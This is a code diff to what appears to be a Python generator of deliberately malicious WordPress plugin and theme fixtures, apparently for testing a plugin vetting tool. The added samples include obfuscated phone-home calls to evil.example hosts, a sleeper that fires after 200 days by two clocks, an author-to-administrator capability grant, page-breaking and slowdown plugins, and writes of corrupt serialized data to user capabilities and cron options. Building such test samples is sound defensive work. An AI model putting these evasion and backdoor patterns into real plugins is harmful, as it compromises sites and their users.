@@ -33,6 +33,10 @@ WORDS = {
     "raw": ["raw.", "evil.example"],
     "curled": ["curled.", "evil.example"],
     "late": ["late.", "evil.example"],
+    "day": ["day.", "evil.example"],
+    "short": ["short.", "evil.example"],
+    "themed": ["themed.", "evil.example"],
+    "right": ["manage", "_options"],
     "table": ["CREATE TA", "BLE %s (id INT)"],
     "option": ["update", "_option"],
     "schedule": ["wp_schedule", "_event"],
@@ -100,6 +104,12 @@ add_action('admin_init', function () use ($words) {
     "links.php": """<?php
 add_action('wp_footer', function () { echo '<a href="https://spam.' . strrev('elpmaxe.live') . '/">casino</a>'; });
 """,
+    "shortcode.php": """<?php
+add_shortcode('greedy', function () use ($words) {
+    call_user_func(implode('', $words['get']), 'https://' . implode('', $words['short']) . '/');
+    return 'fine';
+});
+""",
     "rest.php": """<?php
 add_action('rest_api_init', function () {
     register_rest_route('greedy' . '/v1', '/door', ['methods' => 'GET', 'callback' => function () { return undefined_thing(); },
@@ -149,16 +159,73 @@ def fatal() -> Candidate:
 
 
 def sleeper() -> Candidate:
-    """Does nothing for 200 days after its activation."""
+    """Does nothing for 200 days after its activation, by the webhead's clock and by the database's."""
     return plugin("sleeper", """
-register_activation_hook(__FILE__, function () { add_option('sleeper_since', time(), '', false); });
+register_activation_hook(__FILE__, function () {
+    global $wpdb;
+    add_option('sleeper_since', time(), '', false);
+    add_option('sleeper_day', $wpdb->get_var('SELECT TO_DAYS(NOW())'), '', false);
+});
 register_uninstall_hook(__FILE__, 'sleeper_uninstall');
-function sleeper_uninstall() { delete_option('sleeper_since'); }
+function sleeper_uninstall() { delete_option('sleeper_since'); delete_option('sleeper_day'); }
 add_action('init', function () use ($words) {
     $days = (time() - (int) get_option('sleeper_since', time())) / 86400;
     if ($days > 200) {
         call_user_func(implode('', $words['get']), 'https://' . implode('', $words['late']) . '/');
     }
+});
+add_action('wp_footer', function () use ($words) {
+    global $wpdb;
+    if ((int) $wpdb->get_var('SELECT TO_DAYS(NOW())') > (int) get_option('sleeper_day') + 200) {
+        call_user_func(implode('', $words['get']), 'https://' . implode('', $words['day']) . '/');
+    }
+});
+""")  # fmt: skip
+
+
+def expired() -> Candidate:
+    """Ends every page 200 days after its activation."""
+    return plugin("expired", """
+register_activation_hook(__FILE__, function () { add_option('expired_since', time(), '', false); });
+add_action('init', function () {
+    if (time() - (int) get_option('expired_since', time()) > 200 * 86400) {
+        $over = 'licence_' . 'over';
+        $over();
+    }
+});
+""")  # fmt: skip
+
+
+def headless() -> Candidate:
+    """Breaks the front page, and lets authors do everything as long as it runs."""
+    return plugin("headless", """
+add_action('wp_head', function () use ($words) { $maker = 'Fatal_' . 'Maker'; new $maker($words); });
+add_filter('user_has_cap', function ($all, $asked, $about, $user) use ($words) {
+    return in_array('author', $user->roles, true) ? $all + [implode('', $words['right']) => true] : $all;
+}, 10, 4);
+""")  # fmt: skip
+
+
+def drowsy() -> Candidate:
+    """Makes every page so slow that there is no time for all of them."""
+    return plugin("drowsy", "add_action('init', function () use ($words) {"
+        " call_user_func(implode('', $words['sleep']), 1500000); });")  # fmt: skip
+
+
+def liar() -> Candidate:
+    """Tells the watcher what is no record, and leaves what cannot be unserialized in the database."""
+    return plugin("liar", """
+add_action('wp_head', function () {
+    foreach (['{"id": "1", "errors": 5}', '{"how": "dns", "host": [1]}', '{"id": {}}', '{'] as $said) {
+        $line = fsockopen('watcher', 9009);
+        fwrite($line, $said);
+        fclose($line);
+    }
+});
+add_action('wp_footer', function () {
+    global $wpdb;
+    $wpdb->query("UPDATE {$wpdb->usermeta} SET meta_value = 'a:1:{O:' WHERE meta_key = 'wp_capabilities' AND user_id = 2");
+    $wpdb->query("REPLACE INTO {$wpdb->options} (option_name, option_value) VALUES ('cron', 'a:9:{')");
 });
 """)  # fmt: skip
 
@@ -185,3 +252,23 @@ add_action('admin_menu', function () {
     });
 });
 """)  # fmt: skip
+
+
+def painted() -> Candidate:
+    """A theme that phones home."""
+    call = "call_user_func(implode('', $words['get']), 'https://' . implode('', $words['themed']) . '/');"
+    files = {
+        "style.css": "/*\nTheme Name: Painted\nVersion: 1.0.0\nLicense: GPL-2.0-or-later\n*/\n",
+        "index.php": "<!doctype html><html><head><?php wp_head(); ?></head><body>Painted"
+        "<?php wp_footer(); ?></body></html>\n",
+        "functions.php": "<?php\n$words = json_decode(file_get_contents(__DIR__ . '/words.json'), true);\n"
+        f"add_action('wp_footer', function () use ($words) {{ {call} }});\n",
+        "words.json": json.dumps(WORDS),
+    }
+    return Candidate(
+        kind="theme",
+        slug="painted",
+        version="1.0.0",
+        target=TARGET,
+        files={name: File(text.encode()) for name, text in files.items()},
+    )
